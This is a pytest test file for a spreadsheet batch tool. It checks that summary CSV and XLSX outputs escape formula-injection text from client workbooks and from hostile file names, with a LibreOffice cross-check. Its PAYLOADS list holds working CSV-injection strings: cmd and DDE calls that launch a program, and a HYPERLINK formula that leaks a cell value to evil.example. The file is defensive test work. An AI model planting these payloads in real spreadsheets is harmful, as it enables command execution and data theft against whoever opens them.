"""Issue 12, item 1: no formula injection through ``socroi recalc --summary``.

A client's workbook whose ``Headline_*`` figure is text such as ``=cmd|' /C calc'!A0``, or
a file whose name starts with ``=``, ``+``, ``-`` or ``@``, must not put a live formula in
summary.xlsx nor an unescaped field in summary.csv. What must hold (OWASP, "CSV
Injection"; CWE-1236):

* summary.xlsx: every text is a text cell (no ``<f>`` element anywhere), shown exactly; an
  Excel error stays an error cell, a text that reads ``#N/A`` stays text;
* summary.csv: every text field is quoted, control characters are escaped, and a field
  starting with a formula character gets a leading apostrophe;
* LibreOffice, the independent spreadsheet, opens summary.csv without creating a single
  formula, while the same values written naively do create formulas (the check can fail).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.workbook.defined_name import DefinedName

from socroi_xl.atomic import printable
from socroi_xl.batch import FORMULA_TRIGGERS, Outcome, inert_text, write_summary
from socroi_xl.cli.recalc import recalc
from socroi_xl.errors import XLError
from socroi_xl.libreoffice import convert, find_soffice, make_profile

#: Text a hostile workbook may hold, as published in CSV-injection write-ups.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for totals")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\uff1d1+1",  # full-width equals sign
    'a,=1+1;=2+2\t=3+3"=4+4',  # separators and quotes, then formulas
    "#N/A",  # text that reads like an error: must stay text
    "_x003D_cmd|' /C calc'!A0",  # OOXML's escape of "=": Excel shows "=cmd|..." (still text)
]
#: File names with a formula character first (all legal on Linux).
NAMES = ["=1+1.xlsx", "+SUM(2,2).xlsx", "-3+3.xlsx", "@SUM(4,4).xlsx"]


def _hostile_book(path: Path) -> Path:
    """A workbook whose headline figures are the payloads, stored as text cells."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Summary"
    for i, text in enumerate(PAYLOADS, start=1):
        cell = ws.cell(i, 1)
        cell.value = text.replace("\x00", "")  # openpyxl refuses NUL; the engine gets the rest
        cell.data_type = "s"  # text, as a client typed it (not a formula)
        wb.defined_names[f"Headline_P{i}"] = DefinedName(f"Headline_P{i}", attr_text=f"Summary!$A${i}")
    ws["B1"] = "=1/0"
    wb.defined_names["Headline_SocialROI"] = DefinedName("Headline_SocialROI", attr_text="Summary!$B$1")
    wb.save(path)
    return path


def _plain_book(path: Path) -> Path:
    wb = openpyxl.Workbook()
    wb.active["A1"] = 5
    wb.active["A2"] = "=A1*2"
    wb.defined_names["Headline_TotalCost"] = DefinedName("Headline_TotalCost", attr_text="Sheet!$A$2")
    wb.save(path)
    return path


@pytest.fixture
def run(tmp_path):
    """``socroi recalc`` over the hostile book and books with hostile names; summaries."""
    src = tmp_path / "in"
    src.mkdir()
    books = [_hostile_book(src / "client.xlsx"), *(_plain_book(src / n) for n in NAMES)]
    out = {}
    for ext in ("csv", "xlsx", "json"):
        summary = tmp_path / f"summary.{ext}"
        res = CliRunner().invoke(recalc, [*map(str, books), "-o", str(tmp_path / "out"), "--summary", str(summary)])
        assert res.exit_code == 0, res.output
        out[ext] = summary
    return books, out


def _expected_headline_texts() -> list[str]:
    """What Excel shows for each payload cell: openpyxl drops NUL and stores the text as
    is, and a reader decodes ``_xHHHH_`` into its character (ECMA-376 Part 1, 22.9.2.19)."""
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text.replace("\x00", ""))
            for text in PAYLOADS]


def _xstring(text: str) -> str:
    """How OOXML stores ``text``: a literal ``_xHHHH_`` is written ``_x005F_xHHHH_``
    (ECMA-376 Part 1, 22.9.2.19); openpyxl reads the stored form back as it is."""
    return re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", text)


# --------------------------------------------------------------------------- xlsx


def test_xlsx_summary_has_no_formula_and_every_text_exact(run):
    books, out = run
    with zipfile.ZipFile(out["xlsx"]) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<(\w+:)?f[ >]", sheet)  # not one formula element
    ws = openpyxl.load_workbook(out["xlsx"]).active
    header = [c.value for c in ws[1]]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    client = rows[printable(str(books[0]))]
    for i, text in enumerate(_expected_headline_texts(), start=1):
        cell = client[header.index(f"P{i}")]
        assert cell.data_type == "s", (text, cell.data_type)
        shown = printable(text)
        assert cell.value == _xstring(shown)
        assert cell.quotePrefix == shown.startswith(FORMULA_TRIGGERS)  # editing keeps it text
    roi = client[header.index("SocialROI")]
    assert roi.data_type == "e" and roi.value == "#DIV/0!"  # a real error stays an error
    na_text = client[header.index(f"P{PAYLOADS.index('#N/A') + 1}")]
    assert na_text.data_type == "s" and na_text.value == "#N/A"  # text stays text
    for book in books[1:]:  # hostile file names: text cells, exactly the name
        row = rows[str(book)]
        assert row[0].data_type == "s" and row[0].quotePrefix is False  # the path starts with /
        out_cell = row[header.index("output")]
        assert out_cell.data_type == "s" and Path(out_cell.value).name == book.name
    assert ws.cell(rows[str(books[1])][0].row, header.index("TotalCost") + 1).value == 10


# --------------------------------------------------------------------------- csv


def test_csv_summary_fields_are_quoted_escaped_and_inert(run):
    books, out = run
    raw = out["csv"].read_text(encoding="utf-8-sig")
    assert raw.count("\n") == 1 + len(books)  # one line per row: no field breaks a line
    records = list(csv.reader(io.StringIO(raw)))
    header = records[0]
    for line in raw.splitlines():
        for field in re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', line):
            if field.startswith('"'):
                assert not field[1:].startswith(FORMULA_TRIGGERS)
            else:  # bare fields are numbers (or empty)
                assert field == "" or float(field) == float(field)
    rows = {r[0]: r for r in records[1:]}
    client = rows[printable(str(books[0]))]
    for i, text in enumerate(_expected_headline_texts(), start=1):
        field = client[header.index(f"P{i}")]
        assert field == inert_text(text)
        assert not field.startswith(FORMULA_TRIGGERS) and "\x00" not in field and "\t" not in field
    assert client[header.index("P1")] == "'=cmd|' /C calc'!A0"
    assert client[header.index("P7")] == "\\t=1+1"
    assert client[header.index("P11")] == "'\uff1d1+1"
    assert client[header.index("SocialROI")] == "#DIV/0!"
    for book in books[1:]:
        assert str(book) in rows  # paths start with "/": never a trigger


def test_csv_file_names_relative_to_the_folder_get_the_apostrophe(tmp_path, monkeypatch):
    """Run from inside the folder: the file column then starts with the name itself."""
    monkeypatch.chdir(tmp_path)
    for n in NAMES:
        _plain_book(tmp_path / n)
    res = CliRunner().invoke(recalc, ["-o", "out", "--summary", "s.csv", "--jobs", "2", "--", *NAMES])
    assert res.exit_code == 0, res.output
    records = list(csv.reader((tmp_path / "s.csv").open(encoding="utf-8-sig")))
    assert [r[0] for r in records[1:]] == ["'" + n for n in NAMES]
    assert [r[3] for r in records[1:]] == [f"out/{n}" for n in NAMES]


def test_json_summary_keeps_the_exact_values(run):
    books, out = run
    rows = json.loads(out["json"].read_text(encoding="utf-8"))
    client = rows[0]
    assert client["file"] == str(books[0])
    assert [client[f"P{i}"] for i in range(1, len(PAYLOADS) + 1)] == _expected_headline_texts()
    assert client["SocialROI"] == "#DIV/0!"


# --------------------------------------------------------------------------- units


def test_inert_text_cases():
    assert inert_text("=1+1") == "'=1+1"
    assert inert_text("+1") == "'+1" and inert_text("-1") == "'-1" and inert_text("@x") == "'@x"
    assert inert_text("\t=1") == "\\t=1" and inert_text("\r=1") == "\\r=1"
    assert inert_text("a=1") == "a=1" and inert_text(" =1") == " =1"
    assert inert_text("'=1") == "'=1"  # already inert: left as it is
    assert inert_text("Café") == "Café"


def test_numbers_stay_numbers_and_non_finite_values_become_text(tmp_path):
    outcomes = [Outcome("a.xlsx", True, output="o/a.xlsx", formulas=1, errors=0,
                        headline={"TotalCost": -12.5, "ROAS": float("inf"), "CPM": float("-inf"),
                                  "CPC": True, "CPA": XLError("#N/A")})]
    write_summary(outcomes, tmp_path / "s.csv")
    write_summary(outcomes, tmp_path / "s.xlsx")
    row = list(csv.reader((tmp_path / "s.csv").open(encoding="utf-8-sig")))[1]
    assert row[8:13] == ["-12.5", "inf", "'-inf", "True", "#N/A"]
    assert '-12.5,"inf"' in (tmp_path / "s.csv").read_text(encoding="utf-8-sig")  # a negative number is bare
    ws = openpyxl.load_workbook(tmp_path / "s.xlsx").active
    cells = [ws.cell(2, c) for c in range(9, 14)]
    assert [c.value for c in cells] == [-12.5, "inf", "-inf", True, "#N/A"]
    assert [c.data_type for c in cells] == ["n", "s", "s", "b", "e"]


def test_text_longer_than_a_cell_is_cut_and_says_so(tmp_path):
    long = "=" + "A" * 40_000  # a headline (or error text) past Excel's 32,767 characters
    write_summary([Outcome("a.xlsx", True, headline={"Note": long})], tmp_path / "s.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "s.xlsx").active.cell(2, 9)
    assert len(cell.value) == 32_767 and cell.data_type == "s" and cell.quotePrefix
    assert cell.value.startswith("=AAAA") and cell.value.endswith(" [cut: 40,001 characters]")


# --------------------------------------------------------------------------- LibreOffice

ODS_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
ODS_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def _naive_csv(path: Path, values: list[str]) -> None:
    """What a writer without the OWASP escaping produces (quoted, doubled quotes)."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, quoting=csv.QUOTE_ALL).writerows([["file", "value"], *(["x.xlsx", v] for v in values)])


def _ods(path: Path) -> tuple[list[str], list[list[str]]]:
    """The formulas and the cell texts, row by row, of an ODS file as LibreOffice saved it
    (``table:formula`` holds a formula; ``text:p`` the text)."""
    from lxml import etree

    with zipfile.ZipFile(path) as zf:
        root = etree.fromstring(zf.read("content.xml"), etree.XMLParser(resolve_entities=False))
    ns = {"table": ODS_TABLE, "text": ODS_TEXT}
    formulas = [str(f) for f in root.xpath("//table:table-cell/@table:formula", namespaces=ns)]
    rows = []
    for row in root.iterfind(".//table:table-row", ns):
        cells: list[str] = []
        for cell in row.iterfind("table:table-cell", ns):
            text = "\n".join("".join(p.itertext()) for p in cell.iterfind("text:p", ns))
            cells += [text] * min(int(cell.get(f"{{{ODS_TABLE}}}number-columns-repeated", "1")), 64)
        rows.append(cells)
    return formulas, rows


@pytest.mark.skipif(find_soffice() is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_finds_no_formula_and_shows_every_text(run, tmp_path):
    """LibreOffice, the independent reader, opens both summaries (one conversion to ODS):
    no formula in either, every payload shown as the summary meant it; while the same
    values written naively do become formulas (the check can fail)."""
    books, out = run
    given = tmp_path / "given"
    given.mkdir()
    shutil.copyfile(out["csv"], given / "from_csv.csv")
    shutil.copyfile(out["xlsx"], given / "from_xlsx.xlsx")
    _naive_csv(given / "naive.csv", [p.replace("\x00", "") for p in PAYLOADS[:6]])
    converted = tmp_path / "lo"
    profile = make_profile(tmp_path / "profile", recalc_on_load=True)
    convert([given / "from_xlsx.xlsx"], converted, "ods", profile, timeout=180)
    # the CSV files as UTF-8 (comma, double quote, UTF-8), LibreOffice's import options; its
    # default would be the system's legacy charset
    subprocess.run(
        [find_soffice(), f"-env:UserInstallation={profile.resolve().as_uri()}", "--headless",
         "--norestore", "--nolockcheck", "--infilter=Text - txt - csv (StarCalc):44,34,76",
         "--convert-to", "ods", "--outdir", str(converted), str(given / "from_csv.csv"), str(given / "naive.csv")],
        check=True, capture_output=True, timeout=180,
    )

    naive_formulas, _ = _ods(converted / "naive.ods")
    assert len(naive_formulas) >= 3  # "=cmd|...", "=HYPERLINK(...)", "=DDE(...)" became formulas
    for name, shown in (("from_csv", inert_text), ("from_xlsx", printable)):
        formulas, rows = _ods(converted / f"{name}.ods")
        # none, but LibreOffice's way of holding the one real error cell (the ROI's #DIV/0!)
        assert formulas == ([] if name == "from_csv" else ["of:=#DIV/0!"]), name
        header = rows[0]
        (client,) = [r for r in rows if r and r[0] == shown(str(books[0]))]
        for i, text in enumerate(_expected_headline_texts(), start=1):
            assert client[header.index(f"P{i}")] == shown(text), (name, text)
        assert client[header.index("SocialROI")] == "#DIV/0!"
        for book in books[1:]:
            assert any(r and r[0] == shown(str(book)) for r in rows)
